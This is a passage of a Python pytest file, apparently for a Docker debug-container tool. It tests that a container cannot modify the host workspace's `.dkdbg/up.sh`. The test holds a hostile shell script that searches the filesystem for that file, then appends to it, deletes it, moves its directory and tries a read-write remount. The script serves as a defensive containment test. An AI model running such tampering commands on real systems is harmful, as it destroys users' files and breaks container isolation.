    ):  # fmt: skip
        done = sync(root, *words)
        assert "Traceback" not in done.stderr, done.stderr
        assert "\x1b" not in done.stdout + done.stderr, words
        assert "\nin sync: 7 files" not in done.stdout + done.stderr, words


@pytest.mark.attack(0)
@pytest.mark.parametrize("mount", ["'.:/workspace'", "{type: bind, source: ., target: '/a:b'}", ""])
def test_a_program_does_not_change_what_f5_runs_on_the_host(base_image, tmp_path, mount):
    """Is the program of the debug service, or in its dev container, and rewrites, removes or moves `.dkdbg/up.sh` of the mounted workspace: it is read-only."""
    name, service, files = unique("f5"), "app", {"train.py": "print(1)\n", "requirements.txt": "# nothing\n"}
    root = tmp_path / "repository" / name
    if mount:
        service, root = "web", tmp_path / name
        says = f"image: {base_image}\n    volumes: [{mount}]\n    command: [python3, train.py]"
        files["compose.yaml"] = f"services:\n  web:\n    {says}\n"
    write(root, **files)
    subprocess.run(
        ["git", "init", "-q"], cwd=root if mount else root.parent, check=True
    )  # all of a repository is mounted, of which this is a part
    must(dkdbg(root, "init", "--yes"))
    env = {"DKDBG_BASE": base_image}
    before = {path: path.read_bytes() for path in (root / ".dkdbg").iterdir()}
    attack = """for up in $(find / -path /proc -prune -o -path '*/.dkdbg/up.sh' -print); do
      at=${up%/up.sh}
      echo evil >>$up; rm -f $up; mv $at $at-2; touch $at/new; mount -o remount,rw $at; echo evil >>$up; echo tried $up
    done 2>&1"""
    try:
        for profile, twin in (
            ("debug", f"{service}-debug"),
            ("devcontainer", f"{service}-debug-devcontainer"),
        ):
            words = ["docker", "compose", "--profile", profile, "run", "--rm", "--no-deps", "-T"]
            done = command([*words, "--entrypoint", "sh", twin, "-c", attack], root, env=env)
            assert "tried" in done.stdout
            assert {path: path.read_bytes() for path in (root / ".dkdbg").iterdir()} == before, done.stdout
    finally:
        remove_project(root, env)
